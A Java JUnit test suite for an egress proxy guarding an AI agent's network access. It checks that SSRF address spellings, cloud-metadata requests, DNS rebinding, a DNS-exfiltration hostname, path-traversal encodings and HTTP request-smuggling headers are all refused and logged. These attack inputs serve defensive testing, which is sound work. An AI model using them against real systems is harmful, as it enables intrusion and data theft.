package dev.carapace.guard.egress;

import com.fasterxml.jackson.databind.JsonNode;
import dev.carapace.guard.AuditEvent;
import dev.carapace.guard.NetworkRules;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.BufferedInputStream;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The escape corpus for the egress proxy: every case is refused, recorded in the audit log as a denial, and never
 * reaches a server (a real one listens on loopback at the port each case aims at).
 */
class EgressEscapeTest {

    private TestUpstream victim;
    private ProxyFixture fx;

    @BeforeEach
    void start() throws Exception {
        victim = TestUpstream.plain("127.0.0.1", 0);
    }

    @AfterEach
    void stop() throws Exception {
        if (fx != null) fx.close();
        victim.close();
    }

    private void assertRefused(ProxyFixture.Reply reply, int status, String rule) throws Exception {
        assertThat(reply.status()).as(reply.body()).isEqualTo(status);
        JsonNode json = reply.json();
        assertThat(json.path("layer").asText()).isEqualTo("network");
        assertThat(json.path("rule").asText()).isEqualTo(rule);
        assertThat(json.path("reason").asText()).isNotBlank();
        assertThat(json.path("remedy").asText()).isNotBlank();
        AuditEvent event = fx.onlyEvent();
        assertThat(event.outcome()).isEqualTo("deny");
        assertThat(event.layer()).isEqualTo("network");
        assertThat(event.rule()).isEqualTo(rule);
        assertThat(event.agent()).isEqualTo("agent-1");
        assertThat(victim.accepted.get()).as("connections reaching the server").isZero();
    }

    // ---- SSRF: every spelling of an internal address, with a policy that allows any host -----------------------

    @ParameterizedTest
    @ValueSource(strings = {"127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.1", "0x7f000001", "127.1", "0177.1",
            "017700000001", "127.0.0.1.", "0x7F.0.0.1", "0", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]",
            "[::ffff:7f00:1]", "[::127.0.0.1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::]", "10.0.0.1", "172.16.0.1",
            "192.168.1.1", "100.64.0.1", "169.254.1.1", "[fe80::1]", "[fc00::1]", "[fd12:3456::1]", "[fec0::1]",
            "224.0.0.1", "[ff02::1]", "255.255.255.255", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "localhost.test"})
    void internalAddressesAreBlockedInEverySpelling(String host) throws Exception {
        fx = new ProxyFixture(r -> ProxyFixture.allow("any-host")).resolving("localhost.test", "127.0.0.1");
        String target = "http://" + host + ":" + victim.port() + "/x";
        ProxyFixture.Reply reply = fx.request("GET " + target + " HTTP/1.1\r\nHost: x\r\n\r\n");
        assertRefused(reply, 403, "egress:blocked-address");
        assertThat(reply.json().path("remedy").asText()).contains("allowed_ips");
    }

    @ParameterizedTest
    @ValueSource(strings = {"169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518",
            "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "100.100.100.200"})
    void cloudMetadataEndpointsAreBlocked(String host) throws Exception {
        fx = new ProxyFixture(r -> ProxyFixture.allow("any-host"));
        ProxyFixture.Reply reply = fx.request("GET http://" + host + "/latest/meta-data/ HTTP/1.1\r\n\r\n");
        assertRefused(reply, 403, "egress:blocked-address");
        assertThat(reply.json().path("reason").asText()).contains("cloud metadata");
        assertThat(fx.resolved).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"0x7f.1", "2130706433", "[::1]", "169.254.169.254"})
    void connectToInternalAddressesIsBlocked(String host) throws Exception {
        fx = new ProxyFixture(r -> ProxyFixture.allow("any-host"));
        ProxyFixture.Reply reply = fx.request("CONNECT " + host + ":" + victim.port() + " HTTP/1.1\r\n\r\n");
        assertRefused(reply, 403, "egress:blocked-address");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1.2.3.4.5", "256.0.0.1", "0x100.1", "08.0.0.1", "0x.0x.0x.0x100", "example.123", "a..b",
            "%31%32%37.0.0.1", "[::1%25eth0]", "exa mple.com"})
    void ambiguousHostsAreRefusedNotResolved(String host) throws Exception {
        fx = new ProxyFixture(r -> ProxyFixture.allow("any-host"));
        ProxyFixture.Reply reply = fx.request("GET http://" + host + "/ HTTP/1.1\r\n\r\n");
        assertThat(reply.status()).isEqualTo(400);
        assertThat(fx.onlyEvent().rule()).isEqualTo("egress:bad-request");
        assertThat(fx.resolved).isEmpty();
        assertThat(fx.asked).isEmpty();
    }

    @Test
    void aNameWithOneInternalAnswerAmongPublicOnesIsBlocked() throws Exception {
        fx = new ProxyFixture(r -> ProxyFixture.allow("any-host")).resolving("mixed.test", "8.8.8.8", "127.0.0.1");
        assertRefused(fx.request("GET http://mixed.test:" + victim.port() + "/ HTTP/1.1\r\n\r\n"), 403,
                "egress:blocked-address");
    }

    // ---- DNS rebinding -----------------------------------------------------------------------------------------

    @Test
    void aFlippingDnsAnswerNeverLeadsToLoopback() throws Exception {
        // The name's "real" address is 127.0.0.2 (allowed by allowed_ips); the victim listens on 127.0.0.1 at the
        // same port. Each lookup flips the answer; a proxy that looked up twice (check, then connect) would reach
        // the victim on every request.
        try (TestUpstream legit = TestUpstream.plain("127.0.0.2", 0)) {
            victim.close();
            victim = TestUpstream.plain("127.0.0.1", legit.port());
            fx = new ProxyFixture(r -> ProxyFixture.allow("rebind", "127.0.0.2/32"))
                    .flipping("rebind.test", "127.0.0.2", "127.0.0.1");
            int allowed = 0;
            int refused = 0;
            for (int i = 0; i < 6; i++) {
                ProxyFixture.Reply r = fx.request("GET http://rebind.test:" + legit.port() + "/" + i + " HTTP/1.1\r\n\r\n");
                if (r.status() == 200) allowed++;
                else if (r.status() == 403 && r.json().path("rule").asText().equals("egress:blocked-address")) refused++;
            }
            assertThat(allowed).isEqualTo(3);
            assertThat(refused).isEqualTo(3);
            assertThat(fx.resolved).hasSize(6); // one lookup per request
            assertThat(victim.accepted.get()).isZero();
            assertThat(legit.received).extracting(TestUpstream.Received::target).containsExactly("/0", "/2", "/4");
            assertThat(fx.audit).extracting(AuditEvent::outcome)
                    .containsExactly("allow", "deny", "allow", "deny", "allow", "deny");
        }
    }

    // ---- DNS exfiltration --------------------------------------------------------------------------------------

    @Test
    void deniedNamesAreNeverResolved() throws Exception {
        fx = new ProxyFixture(r -> r.host().equals("api.test") ? ProxyFixture.allow("api", "127.0.0.0/8")
                : ProxyFixture.deny("default-deny", "no policy allows " + r.host()));
        String leaky = "c2vjcmv0lwrhdge.exfil.evil.test";
        assertRefused(fx.request("GET http://" + leaky + "/ HTTP/1.1\r\n\r\n"), 403, "default-deny");
        fx.audit.clear();
        assertRefused(fx.request("CONNECT " + leaky + ":443 HTTP/1.1\r\n\r\n"), 403, "default-deny");
        assertThat(fx.resolved).isEmpty();
        assertThat(fx.asked).extracting(NetworkRules.NetworkRequest::host).containsOnly(leaky);
    }

    // ---- CONNECT to a denied port ------------------------------------------------------------------------------

    @Test
    void connectToADeniedPortIsRefused() throws Exception {
        fx = new ProxyFixture(r -> r.host().equals("api.test") && r.port() == 443
                ? ProxyFixture.allow("api-443", "127.0.0.0/8")
                : ProxyFixture.deny("default-deny", r.host() + ":" + r.port() + " is not in the policy"))
                .resolving("api.test", "127.0.0.1");
        ProxyFixture.Reply reply = fx.request("CONNECT api.test:" + victim.port() + " HTTP/1.1\r\n\r\n");
        assertRefused(reply, 403, "default-deny");
        JsonNode json = reply.json();
        assertThat(json.path("host").asText()).isEqualTo("api.test");
        assertThat(json.path("port").asInt()).isEqualTo(victim.port());
        assertThat(json.path("method").asText()).isEqualTo("CONNECT");
        assertThat(json.path("remedy").asText()).contains("api.test:" + victim.port());
        assertThat(fx.resolved).isEmpty();
        assertThat(fx.asked.getFirst().method()).isNull();
        assertThat(fx.asked.getFirst().path()).isNull();
    }

    @Test
    void connectToAnEndpointWithCredentialsIsRefusedWithTheWayThatWorks() throws Exception {
        NetworkRules.NetworkDecision withCredential = new NetworkRules.NetworkDecision(NetworkRules.Verdict.ALLOW,
                "github", "allowed", false, List.of("127.0.0.0/8"),
                List.of(new NetworkRules.Injection("Authorization", "Bearer {secret}", "GH")));
        fx = new ProxyFixture(r -> withCredential).resolving("api.test", "127.0.0.1");
        ProxyFixture.Reply reply = fx.request("CONNECT api.test:" + victim.port() + " HTTP/1.1\r\n\r\n");
        assertRefused(reply, 403, "egress:tunnel-credentials");
        assertThat(reply.json().path("remedy").asText()).contains("http://api.test:" + victim.port());
    }

    // ---- L7 path confusion -------------------------------------------------------------------------------------

    private ProxyFixture pathRules() throws Exception {
        return new ProxyFixture(r -> r.path() != null && r.path().startsWith("/allowed/")
                ? ProxyFixture.allow("allowed-path", "127.0.0.0/8")
                : ProxyFixture.deny("api-paths", r.method() + " " + r.path() + " is not allowed"))
                .resolving("api.test", "127.0.0.1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/allowed/../admin", "/allowed/%2e%2e/admin", "/allowed/%2E%2e/admin", "//admin",
            "/allowed/./../admin", "/allowed/..", "/%61dmin", "/allowed/x/../../admin"})
    void pathsAreJudgedInCanonicalForm(String path) throws Exception {
        fx = pathRules();
        ProxyFixture.Reply reply = fx.request("GET http://api.test:" + victim.port() + path + " HTTP/1.1\r\n\r\n");
        assertRefused(reply, 403, "api-paths");
        assertThat(fx.asked.getFirst().path()).doesNotContain("..", "%", "//").doesNotStartWith("/allowed/");
        assertThat(fx.resolved).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/allowed%2fadmin", "/allowed%2Fadmin", "/allowed/..%2fadmin", "/allowed%5cadmin",
            "/%2e%2e/admin", "/../admin", "/allowed\\..\\admin", "/allowed/%00", "/allowed/%zz", "/allowed/%2"})
    void ambiguousPathsAreRefused(String path) throws Exception {
        fx = pathRules();
        ProxyFixture.Reply reply = fx.request("GET http://api.test:" + victim.port() + path + " HTTP/1.1\r\n\r\n");
        assertRefused(reply, 400, "egress:bad-request");
        assertThat(fx.asked).isEmpty();
    }

    // ---- request smuggling -------------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {
            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
            "Content-Length: 5\r\nContent-Length: 5\r\n",
            "Content-Length: 5\r\nContent-Length: 6\r\n",
            "Content-Length: 5, 5\r\n",
            "Content-Length: +5\r\n",
            "Content-Length: 0x5\r\n",
            "Transfer-Encoding: chunked, identity\r\n",
            "Transfer-Encoding: identity, chunked\r\n",
            "Transfer-Encoding: xchunked\r\n",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding : chunked\r\n",
            "Transfer-Encoding: identity\r\n chunked\r\n",
            "X-Pad: a\r\n\tTransfer-Encoding: chunked\r\n",
            "Transfer-Encoding: chunked\n",
            "Content-Length: 5\rX: y\r\n",
            "Transfer\u0000-Encoding: chunked\r\n"})
    void smugglingHeadsAreRefused(String headers) throws Exception {
        fx = pathRules();
        String raw = "POST http://api.test:" + victim.port() + "/allowed/x HTTP/1.1\r\nHost: api.test\r\n" + headers
                + "\r\n0\r\n\r\nGET http://api.test:" + victim.port() + "/admin HTTP/1.1\r\n\r\n";
        assertRefused(fx.request(raw), 400, "egress:bad-request");
        assertThat(fx.asked).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"GET http://api.test/allowed/x HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n",
            "GET  http://api.test/allowed/x HTTP/1.1\r\n\r\n", "get http://api.test/allowed/x HTTP/1.1\r\n\r\n",
            "GET http://api.test/allowed/x HTTP/2.0\r\n\r\n", "GET http://api.test/allowed/x HTTP/1.1\n\n",
            "GET /allowed/x HTTP/1.1\r\nHost: api.test\r\n\r\n",
            "GET http://user:pw@api.test/allowed/x HTTP/1.1\r\n\r\n"})
    void malformedRequestLinesAreRefused(String raw) throws Exception {
        fx = pathRules();
        assertRefused(fx.request(raw), 400, "egress:bad-request");
    }

    @Test
    void aBadChunkSizeCutsTheConnectionBeforeAResponseIsRelayed() throws Exception {
        try (TestUpstream up = TestUpstream.plain("127.0.0.1", 0)) {
            fx = pathRules();
            String raw = "POST http://api.test:" + up.port() + "/allowed/x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + "5\r\nhello\r\n0x10\r\n0123456789abcdef\r\n0\r\n\r\n";
            String answer = fx.exchange(raw);
            assertThat(answer).startsWith("HTTP/1.1 400").contains("invalid chunk size").doesNotContain("200 OK");
            assertThat(up.received).isEmpty(); // the server never got a complete (smuggled) request
            assertThat(fx.audit).extracting(AuditEvent::outcome).containsExactly("allow", "deny");
            assertThat(fx.audit.get(1).rule()).isEqualTo("egress:bad-request");
        }
    }

    @Test
    void aPipelinedRequestIsJudgedOnItsOwn() throws Exception {
        try (TestUpstream up = TestUpstream.plain("127.0.0.1", 0)) {
            fx = pathRules();
            String raw = "POST http://api.test:" + up.port() + "/allowed/x HTTP/1.1\r\nContent-Length: 0\r\n\r\n"
                    + "GET http://api.test:" + up.port() + "/admin HTTP/1.1\r\n\r\n";
            try (Socket s = new Socket(InetAddress.getLoopbackAddress(), fx.port())) {
                s.setSoTimeout(10_000);
                s.getOutputStream().write(raw.getBytes(StandardCharsets.ISO_8859_1));
                InputStream in = new BufferedInputStream(s.getInputStream());
                assertThat(ProxyFixture.read(in, "POST").status()).isEqualTo(200);
                ProxyFixture.Reply second = ProxyFixture.read(in, "GET");
                assertThat(second.status()).isEqualTo(403);
                assertThat(second.json().path("path").asText()).isEqualTo("/admin");
            }
            assertThat(up.received).extracting(TestUpstream.Received::target).containsExactly("/allowed/x");
            assertThat(fx.audit).extracting(AuditEvent::outcome).containsExactly("allow", "deny");
        }
    }

    // ---- policy outcomes ---------------------------------------------------------------------------------------

    @Test
    void anAskVerdictIsRefusedUntilApprovedAndSaysSo() throws Exception {
        fx = new ProxyFixture(r -> new NetworkRules.NetworkDecision(NetworkRules.Verdict.ASK, "ask-github",
                "writes to github need approval", false, List.of(), List.of()));
        ProxyFixture.Reply reply = fx.request("POST http://api.github.test/repos HTTP/1.1\r\nContent-Length: 0\r\n\r\n");
        assertRefused(reply, 403, "ask-github");
        assertThat(reply.json().path("remedy").asText()).contains("approve");
    }

    @Test
    void rulesThatThrowFailClosed() throws Exception {
        fx = new ProxyFixture(r -> {
            throw new IllegalStateException("broken policy");
        });
        assertRefused(fx.request("GET http://api.test/ HTTP/1.1\r\n\r\n"), 403, "egress:rules-failed");
        assertThat(fx.resolved).isEmpty();
    }
}
